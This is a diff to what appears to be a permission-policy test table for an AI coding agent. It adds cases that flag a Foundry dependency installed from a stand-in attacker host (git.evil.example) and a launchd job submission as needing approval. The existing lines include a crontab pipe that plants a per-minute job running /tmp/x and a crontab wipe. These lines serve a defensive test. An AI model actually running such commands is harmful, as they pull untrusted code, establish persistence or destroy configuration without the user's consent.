@@ -77,6 +77,16 @@ policyTable('background-process', [
 
 policyTable('package-from-untrusted-source', [
   {
+    note: 'a Foundry dependency from another git host',
+    spec: 'forge install https://git.evil.example/foundry/forge-std-plus --no-commit',
+    expect: 'ask',
+  },
+  {
+    note: 'near miss: a Foundry dependency from GitHub',
+    spec: 'forge install OpenZeppelin/openzeppelin-contracts',
+    expect: null,
+  },
+  {
     note: 'an MCP tool installing an app build from an outside URL on a device',
     spec: {
       tool: 'mcp__android__install_apk',
@@ -320,6 +330,8 @@ policyTable('system-service-changes', [
   { note: 'crontab -r is refused', spec: 'crontab -r', expect: 'deny' },
   { note: 'crontab from stdin', spec: '(crontab -l; echo "* * * * * /tmp/x") | crontab -', expect: 'ask' },
   { note: 'launchctl', spec: 'launchctl unload ~/Library/LaunchAgents/x.plist', expect: 'ask' },
+  { note: 'a launchd job submitted', spec: 'launchctl submit -l com.acme.sync -- ./sync.sh', expect: 'ask' },
+  { note: 'near miss: launchd jobs listed', spec: 'launchctl list com.acme.sync', expect: null },
   { note: 'near miss: crontab -l', spec: 'crontab -l', expect: null },
   { note: 'near miss: user service', spec: 'systemctl --user restart myapp', expect: null },
   { note: 'near miss: status', spec: 'systemctl status nginx', expect: null },
